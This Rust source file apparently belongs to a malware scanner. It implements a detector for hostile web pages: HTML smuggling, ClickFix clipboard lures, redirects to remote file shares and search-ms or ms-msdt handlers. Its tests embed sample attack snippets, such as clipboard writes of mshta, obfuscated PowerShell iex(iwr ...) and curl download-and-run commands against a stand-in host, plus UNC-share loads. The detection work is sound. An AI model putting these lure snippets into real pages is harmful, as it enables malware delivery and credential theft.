//! What a page would do: assemble a file, put a command on the clipboard, lead to a remote share, take over a sign-in.

mod pictures;
mod session;
mod sign_in;
mod smuggling;
mod told;

use super::clipboard::{
    CLICK_FIX, Code, Lure, command_value, hides, of_a_site, plainly_offered, report, shown_command,
};
use crate::text::{cut, decode, normalise, patterns, up_to, without_entities};
use crate::{DetectError, Detector, Findings};
use lazaret_model::{Family, Finding, Part, Severity};
use regex::Regex;

const ID: &str = "pages";
/// Bytes of a text that is a message and no book.
const MESSAGE: u64 = 256 << 10;

/// The same as [`build`] for what pages are looked at by beside these.
pub(super) fn build_below() {
    pictures::build();
    session::build();
    sign_in::build();
    smuggling::build();
    told::build();
}

patterns! {
    SCRIPT = r"(?is)<(?:[a-z]{1,20}:)?script\b(?P<tag>(?:[^<>\x22']|\x22[^\x22]*\x22|'[^']*')*)>(?P<code>.*?)(?:</(?:[a-z]{1,20}:)?script|\z)";
    TAG = r"(?is)<[a-z](?:[^<>\x22']|\x22[^\x22]*\x22|'[^']*')*>";
    EMPTY_SCRIPT = r"(?i)<(?:[a-z]{1,20}:)?script(?:\s+(?:id|type)\s*=\s*(?:\x22[^\x22<>]*\x22|'[^'<>]*'))*\s*/>";
    HANDLER = r"(?is)[\s\x22'/](?:on[a-z]{3,24}|(?:xlink:)?href|action|src)\s*=\s*(?P<value>\x22[^\x22]*\x22|'[^']*'|[^\s>\x22']+)";
    SEARCH = r"search(?:-ms)?:(?:[^\s<>]{0,120}(?:crumb|location)|//?query)|search-ms:[^\s<>]";
    DIAGNOSTIC = r"ms-msdt:[^<>]{0,160}";
    REMOTE = r"\\\\[a-z0-9]|%5c%5c[a-z0-9]|https?:|https?%3a|file:|davwwwroot|@ssl";
    GOES_TO_SHARE = r#"<meta\b[^<>]*refresh[^<>]*(?:url\s*=|[=\s"'][0-9.]{0,8}\s*[;,])\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z0-9][/@:\\]|\\\\[a-z0-9])[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["'](?:file:/{2,5}[a-z0-9.-]+\.[a-z0-9-]{2,}[/@:\\]|\\\\\\?\\?[a-z0-9])[^\r\n]{0,160}"#;
    // Loaded without a click, from a machine that has the name of a site.
    LOADS_SHARED = r#"(?:<(?:iframe|frame|img|embed|object|link|script|video|audio|source|track|body|table|td|th|tr|input|image|feimage|use|bgsound|applet|base|xml|v:imagedata|v:fill)\b[^<>]*[\s"'/](?:src|srcset|data|href|xlink:href|background|poster|lowsrc|dynsrc|codebase|classid)|<param\b[^<>]*[\s"'/]value)\s*=\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2}|\\{2})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>]{0,160}"#;
    // The same in a style, in which a backslash is written twice.
    STYLE_SHARED = r#"(?:url\(|@import)\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2,4}|\\{4})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>)]{0,160}"#;
    // What a reader of XML takes before it shows anything: a definition of its type, a part of its text, its style.
    DECLARED_SHARED = r#"(?:<!(?:doctype|entity)\b[^<>]{0,200}?\b(?:system|public\s+(?:"[^"<>]*"|'[^'<>]*'))|<\?xml-stylesheet\b[^<>]*\shref\s*=)\s*["']\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2}|\\{2})[a-z0-9][a-z0-9-]*(?:\.[a-z0-9-]+)+[@:\\/][^<>]{0,160}"#;
    // What somebody fills in and sends, with the name and password of the machine.
    SENT_TO_SHARE = r#"<(?:form|button|input)\b[^<>]*[\s"'/](?:form)?action\s*=\s*["']?\s*(?:file:/{2}|file:/{4,5}|file:/{0,3}\\{2}|\\{2})[a-z0-9][a-z0-9-]+(?:\.[a-z0-9-]+)*[@:\\/][^<>]{0,160}"#;
    // Text that is marked whole by a click or a touch.
    SELECTS = r#"user-select\s*:\s*all|\.select\s*\(\s*\)|selectallchildren|selectnodecontents|setselectionrange"#;
    SHARE = r#"<meta\b[^<>]*refresh[^<>]*url\s*=\s*["']?\s*file:[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["']file:[^\r\n]{0,160}|<(?:iframe|img|embed|object|link|script)\b[^<>]*(?:src|data|href)\s*=\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z][a-z0-9.-]*\.[a-z0-9-]{2,}[/@:\\]|\\\\[a-z0-9])[^<>]{0,160}"#;
}

/// Pages, pictures with scripts, HTML applications.
pub(crate) struct Pages;

impl Detector for Pages {
    fn id(&self) -> &'static str {
        ID
    }

    fn summary(&self) -> &'static str {
        "pages that make a file, copy a command, lead to a share or take over a sign-in, pictures that are pages"
    }

    fn wants(&self, part: &Part) -> bool {
        is_page(part)
            || is_message(part)
            || told::wants(part)
            || part.is("js") && of_a_site(part) && part.size <= smuggling::SMALL as u64
    }

    fn inspect(&self, part: &Part, bytes: &[u8], _offset: u64, findings: &mut Findings) -> Result<(), DetectError> {
        let text = decode(bytes);
        if !is_page(part) && (is_message(part) || told::wants(part)) {
            if is_message(part) {
                sign_in::asks(&text, &[&text.to_ascii_lowercase()], findings);
            }
            if told::wants(part) {
                told::asks(part, &text, findings);
            }
            return Ok(());
        }
        if !is_page(part) {
            // LIMIT: larger scripts are libraries, which hold every pattern sooner or later.
            smuggling::smuggles(&Page::of_code(&text), findings);
            return Ok(());
        }
        // Drawing programs leave elements of scripts without any script. In a page of HTML such a tag would begin one.
        let bare = (part.is("svg") && !part.is("html")).then(|| EMPTY_SCRIPT.replace_all(&text, ""));
        let page = Page::of(bare.as_deref().unwrap_or(&text));
        smuggling::smuggles(&page, findings);
        copies_command(part, &page, findings);
        if told::wants(part) {
            told::asks(part, &page.shown, findings);
        }
        leads_to_share(&page, findings);
        sign_in::asks(&page.shown, &[&page.markup, &page.plain], findings);
        session::sends(&page, findings);
        if part.is("svg") {
            pictures::acts(&page, findings);
        }
        Ok(())
    }
}

/// Whether the part is a text that somebody sends: longer ones are no messages.
fn is_message(part: &Part) -> bool {
    (part.is("text") || part.is("mail-body")) && part.size <= MESSAGE
}

fn is_page(part: &Part) -> bool {
    ["html", "svg", "hta", "mht", "xml"].iter().any(|kind| part.is(kind))
}

/// A page taken apart: what runs, and what is shown.
#[derive(Default)]
struct Page {
    /// Scripts and handlers as written.
    code: String,
    /// The same, normalised.
    plain: String,
    /// The tags, lower case, without text between them; text never counts as code.
    tags: String,
    /// Everything outside scripts, as written.
    shown: String,
    /// The same, lower case.
    markup: String,
    scripts: bool,
    handlers: bool,
}

impl Page {
    /// A script of a page, which shows nothing by itself.
    fn of_code(text: &str) -> Self {
        let (code, plain) = (text.to_owned(), normalise(&text.replace('`', "\"")));
        Self { code, plain, scripts: true, ..Self::default() }
    }

    fn of(text: &str) -> Self {
        let mut code = String::new();
        for script in SCRIPT.captures_iter(text) {
            let body = script.name("code").map_or("", |m| m.as_str());
            code.push_str(&without_entities(body));
            code.push('\n');
        }
        let scripts = SCRIPT.is_match(text);
        let markup = SCRIPT.replace_all(text, "<script$tag>");
        let (mut tags, mut handlers) = (String::new(), false);
        for tag in TAG.find_iter(&markup) {
            tags.push_str(&without_entities(tag.as_str()).to_ascii_lowercase());
            tags.push('\n');
            for handler in HANDLER.captures_iter(tag.as_str()) {
                let value = handler.name("value").map_or("", |m| m.as_str()).trim_matches(['"', '\'']);
                let value = without_entities(value);
                let name = handler.get(0).map_or("", |m| m.as_str()).trim_start_matches(['"', '\'', '/', ' ', '\n']);
                let runs = name.get(..2).is_some_and(|on| on.eq_ignore_ascii_case("on"));
                let address = value.trim_start().get(..11).is_some_and(|s| s.eq_ignore_ascii_case("javascript:"));
                if runs || address {
                    handlers = true;
                    code.push_str(&value);
                    code.push('\n');
                }
            }
        }
        // The marks of template literals are no escape characters here.
        let plain = normalise(&code.replace('`', "\""));
        let shown = markup.into_owned();
        Self { plain, code, tags, markup: shown.to_ascii_lowercase(), shown, scripts, handlers }
    }
}

/// A command that the page puts on the clipboard for people to paste and run; what of it the page has, where it has not all.
fn copies_command(part: &Part, page: &Page, findings: &mut Findings) {
    let code = Code::of(&page.code);
    let words = Lure::of(&page.shown);
    let lure = if words.as_ref().is_some_and(|words| words.sure) {
        words
    } else {
        Lure::of(&page.plain).filter(|lure| lure.sure || words.is_none()).or(words)
    };
    let writes = code.writes();
    if writes.is_some() {
        // Manuals show commands and offer to copy them.
        let shown = lure.as_ref().filter(|lure| lure.pretext || lure.keys).and_then(|_| shown_command(&page.markup));
        let found = match code.of_windows().or(shown) {
            Some(value) if lure.is_some() || !plainly_offered(&value, &page.code) => Some((Severity::High, value)),
            Some(value) => Some((Severity::Medium, value)),
            None if lure.is_some() => code.of_manuals().map(|value| (Severity::High, value)),
            None => code.of_manuals().map(|value| (Severity::Medium, value)),
        };
        // A verification that ends in the Run dialog is none, whatever is pasted there.
        let talked = || lure.as_ref().filter(|lure| lure.sure && lure.pretext && lure.keys);
        let strong = found.as_ref().is_some_and(|(severity, _)| *severity == Severity::High);
        let found = if strong { found } else { talked().map(|lure| (Severity::High, lure.words.clone())).or(found) };
        if let Some((severity, value)) = found {
            let message = "the page copies a command to the clipboard, for people to paste and run";
            let mut found = finding(CLICK_FIX, severity, message, &value).technique("T1204.004");
            if let Some(lure) = &lure {
                found = found.with("words", cut(&lure.words));
            }
            findings.add(found);
        }
    }
    // Where no code copies, people are to mark the command themselves: it is made to be marked at once, and says that it is a check.
    if writes.is_none() && part.size <= MESSAGE && SELECTS.is_match(&page.markup) {
        let asked = lure.as_ref().filter(|lure| lure.sure && lure.pretext && lure.keys);
        let command = asked.and_then(|_| shown_command(&page.markup)).filter(|command| hides(command));
        if let (Some(lure), Some(command)) = (asked, command) {
            let message = "the page talks people into copying a command, pasting it and running it";
            let found = finding(CLICK_FIX, Severity::High, message, &command).with("words", cut(&lure.words));
            findings.add(found.technique("T1204.004"));
        }
    }
    if of_a_site(part) {
        let shown = || lure.as_ref().filter(|lure| lure.sure && lure.pretext).and_then(|_| shown_command(&page.markup));
        let command = code.command_value().or_else(|| command_value(&page.tags)).or_else(shown);
        report(ID, lure.as_ref(), writes, command, findings);
    }
}

/// Addresses that the page opens by itself; the worst of them counts, wherever it stands.
fn leads_to_share(page: &Page, findings: &mut Findings) {
    let all = |pattern: &'static Regex| {
        pattern.find_iter(&page.tags).chain(pattern.find_iter(&page.plain)).map(|m| m.as_str())
    };
    let diagnostic = all(&DIAGNOSTIC)
        .map(|value| (Severity::High, value, "the page opens the Windows diagnostic tool with arguments of its own"));
    // A search of another machine shows its files as if they were here.
    let places = [&page.tags, &page.plain].into_iter().flat_map(|text| {
        SEARCH.find_iter(text).map(|found| up_to(text, found.start(), |c| c.is_whitespace() || matches!(c, '<' | '>')))
    });
    let search = places.map(|value| {
        let severity = if REMOTE.is_match(value) { Severity::High } else { Severity::Medium };
        (severity, value, "the page opens a Windows search of a place of its choice")
    });
    let goes = all(&GOES_TO_SHARE).map(|value| (Severity::High, value, "the page leads to a file share by itself"));
    let share = all(&SHARE).map(|value| (Severity::Medium, value, "the page leads to a file share by itself"));
    let styles = page.markup.contains("<style") || page.tags.contains("style=");
    let styled = styles.then(|| STYLE_SHARED.find_iter(&page.markup).map(|m| m.as_str())).into_iter().flatten();
    let declared = DECLARED_SHARED.find_iter(&page.markup).map(|m| m.as_str());
    let loads = LOADS_SHARED.find_iter(&page.tags).map(|m| m.as_str()).chain(styled).chain(declared);
    let loads = loads.map(|value| (Severity::High, value, "the page loads something from a file share by itself"));
    let sent =
        all(&SENT_TO_SHARE).map(|value| (Severity::High, value, "the page sends what people enter to a file share"));
    let all = diagnostic.chain(search).chain(goes).chain(loads).chain(sent).chain(share);
    // Of several as bad, the first.
    let worst = all.reduce(|worst, next| if next.0 > worst.0 { next } else { worst });
    if let Some((severity, value, message)) = worst {
        findings.add(finding("page.search-ms", severity, message, value).technique("T1187"));
    }
}

fn finding(id: &'static str, severity: Severity, message: &str, value: &str) -> Finding {
    Finding::new(id, ID, severity, Family::Behaviour, message).with("value", cut(value))
}

#[cfg(test)]
mod tests {
    use super::Pages;
    use crate::detectors::test_part::check;

    const SMUGGLES: &str = "page.html-smuggling high";
    const COPIES: &str = "page.click-fix high";

    #[test]
    fn pages_are_judged_by_what_they_would_do() {
        let file = "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FS";
        let smuggle = format!(
            "<html><script>var b = new Blob([atob('{file}')]); a.href = URL.createObjectURL(b); a.download = 'a.com'; a.click()</script>"
        );
        let old =
            format!("<html><body onload=\"navigator.msSaveOrOpenBlob(new Blob([atob(&quot;{file}&quot;)]), 'a')\">");
        for (kind, text, expected) in [
            ("html", smuggle.as_str(), &[SMUGGLES][..]),
            ("html", old.as_str(), &[SMUGGLES]),
            ("html", "<a download='a.zip' href='data:application/zip;base64,UEsFBg=='>x</a>", &[SMUGGLES]),
            (
                "html",
                "Press Win + R <script>navigator.clipboard.writeText('power' + 'shell -c echo')</script>",
                &[COPIES],
            ),
            (
                "html",
                "<button onclick=\"navigator.clipboard.writeText('mshta https://host.invalid/a')\">x</button>",
                &[COPIES],
            ),
            (
                "html",
                "To verify you are human press Win+R, Ctrl+V and Enter <script>navigator.clipboard.writeText('winget x')</script>",
                &[COPIES],
            ),
            (
                "html",
                "To verify you are human press Win+R, Ctrl+V <input value='powershell -w hidden -c iwr' onclick='this.select()'>",
                &[COPIES],
            ),
            (
                "html",
                "To verify you are human press Win+R, Ctrl+V <b style='user-select:all'>mshta https://host.invalid/a</b>",
                &[COPIES],
            ),
            (
                "html",
                "<img src=a.png><b onclick=\"navigator.clipboard.writeText('curl.exe -o %TEMP%\\\\a.bat https://host.invalid/a & %TEMP%\\\\a.bat')\">x</b>",
                &[COPIES],
            ),
            (
                "html",
                "<b onclick=\"navigator.clipboard.writeText('net use Z: https://host.invalid/s & Z:\\\\a.exe')\">x</b>",
                &[COPIES],
            ),
            (
                "html",
                "<b onclick=\"navigator.clipboard.writeText('set a=power&& set b=shell&& call %a%%b% -c x')\">x</b>",
                &[COPIES],
            ),
            (
                "html",
                "<b onclick=\"navigator.clipboard.writeText('p^ow^er^shell -c iex(iwr host.invalid)')\">x</b>",
                &[COPIES],
            ),
            (
                "html",
                "Press Win+R <script>navigator.clipboard.writeText('\\\\\\\\host.invalid\\\\s\\\\a.exe')</script>",
                &[COPIES],
            ),
            (
                "html",
                "Press Win+R <script>navigator.clipboard.writeText('finger a@host.invalid | cmd')</script>",
                &[COPIES],
            ),
            ("html", "<script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtYyBlY2hv'))</script>", &[COPIES]),
            (
                "html",
                "verify you are human<pre id=c>cmd /c echo</pre><script>c.select();document.execCommand('copy')</script>",
                &[COPIES],
            ),
            ("svg", "<svg><script>document.title = 'x'</script></svg>", &["page.script-in-image low"]),
            ("svg", "<svg><script/><script id='script1' type=\"text/ecmascript\" /><path d='M0 0'/></svg>", &[]),
            ("svg", "<svg><script href='a.js'/></svg>", &["page.script-in-image low"]),
            ("svg", "<svg><script/><script>document.title = 'x'</script></svg>", &["page.script-in-image low"]),
            ("svg", "<svg onload=\"window.location='https://host.invalid'\"/>", &["page.script-in-image medium"]),
            (
                "html",
                "<script>location.href='search-ms:query=a&crumb=location:\\\\host.invalid\\s'</script>",
                &["page.search-ms high"],
            ),
            ("html", "<script>window.location.href = 'ms-msdt:/id PCWDiagnostic'</script>", &["page.search-ms high"]),
            ("html", "<meta http-equiv=refresh content='0;url=file://host.invalid/s/a'>", &["page.search-ms high"]),
            ("html", "<meta http-equiv=refresh content='0; file://host.invalid/s/a'>", &["page.search-ms high"]),
            ("html", "<img src='file://host.invalid/s/a.png'>", &["page.search-ms high"]),
            ("html", "<base href='file://host.invalid/s/'><img src='a.png'>", &["page.search-ms high"]),
            ("html", "<object codebase='\\\\host.invalid\\s'></object>", &["page.search-ms high"]),
            ("html", "<object><param name=URL value='\\\\host.invalid\\s\\a'></object>", &["page.search-ms high"]),
            ("html", "<img srcset='file:///\\\\host.invalid\\s\\a.png 2x'>", &["page.search-ms high"]),
            ("xml", "<!DOCTYPE a SYSTEM \"file://host.invalid/s/a.dtd\"><a/>", &["page.search-ms high"]),
            (
                "xml",
                "<!DOCTYPE a [<!ENTITY % x PUBLIC 'a' '\\\\host.invalid\\s\\a'>%x;]><a/>",
                &["page.search-ms high"],
            ),
            ("xml", "<?xml-stylesheet type='text/xsl' href='\\\\host.invalid\\s\\a'?><a/>", &["page.search-ms high"]),
            ("html", "<form action='file://host.invalid/s/a'><input name=a></form>", &["page.search-ms high"]),
            ("html", "<form><button formaction='\\\\host\\s\\a'>x</button></form>", &["page.search-ms high"]),
            ("html", "<body background='\\\\host.invalid\\s\\a.png'>", &["page.search-ms high"]),
            ("html", "<style>p{background:url(file://host.invalid/s/a.png)}</style>", &["page.search-ms high"]),
        ] {
            check(&Pages, kind, text, expected);
        }
    }

    #[test]
    fn pages_that_mention_it_are_left_alone() {
        for (kind, text) in [
            (
                "html",
                "<p>Use <code>atob('WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FS')</code>, new Blob( and a.download = in JavaScript; ms-msdt: and search-ms:query=a&crumb=b are handlers.</p>",
            ),
            (
                "html",
                "<p>Press Win+R, type winver, paste it with Ctrl+V</p><script>navigator.clipboard.writeText(code.innerText)</script>",
            ),
            ("html", "<p>Point a finger at a@host.invalid</p><script>navigator.clipboard.writeText(mail)</script>"),
            ("html", "<p>Press Win+R, run cmd /c dir</p><pre>powershell -c echo</pre>"),
            (
                "html",
                "<pre>curl https://host.invalid | sh</pre><script>navigator.clipboard.writeText(pre.textContent)</script>",
            ),
            (
                "html",
                "<script>hljs.register(['powershell', 'bash', 'cmd']); navigator.clipboard.writeText(code.innerText)</script>",
            ),
            (
                "html",
                "<script>const u = URL.createObjectURL(new Blob([text], {type: 'text/csv'})); a.download = 'a.csv'</script>",
            ),
            (
                "html",
                "<a href='data:text/plain,hello' download='a.txt'>x</a><a href='file:///usr/share/doc/x.html'>y</a>",
            ),
            ("html", "<pre>&lt;a onclick=\"navigator.clipboard.writeText('mshta https://host.invalid')\"&gt;</pre>"),
            (
                "html",
                "<base href='https://host.invalid/'><input value='\\\\host.invalid\\s'><img src='file:///C:/a.b/c.png'><img src='file:///home/a.b/c.png'><img src='//cdn.invalid/a.png'>",
            ),
            (
                "html",
                "<form action='/search'><form action='//host.invalid/a'><form action='file:///C:/a'><form action='file://C:/a'>",
            ),
            // What writes about it has nothing to mark, and what is marked asks for no check.
            (
                "html",
                "<p>They ask you to verify you are human: Win+R, Ctrl+V.</p><pre>mshta https://host.invalid/a</pre>",
            ),
            ("html", "<p>Run it:</p><pre style='user-select:all'>curl -o a.zip https://host.invalid/a.zip</pre>"),
            ("html", "<p>@import url(file://host.invalid/s/a.css) is what a style would say</p>"),
            ("svg", "<svg><title>script onload=</title><path d='M0 0'/></svg>"),
            ("xml", "<!DOCTYPE a PUBLIC '-//A//B' 'file:///C:/a/b.c.dtd' [<!ENTITY x SYSTEM 'a.xml'>]><a/>"),
            ("xml", "<!DOCTYPE plist SYSTEM \"file://localhost/System/Library/DTDs/PropertyList.dtd\"><plist/>"),
            ("xml", "<list><item>search-ms:query=a&amp;crumb=b</item></list>"),
        ] {
            check(&Pages, kind, text, &[]);
        }
    }
}
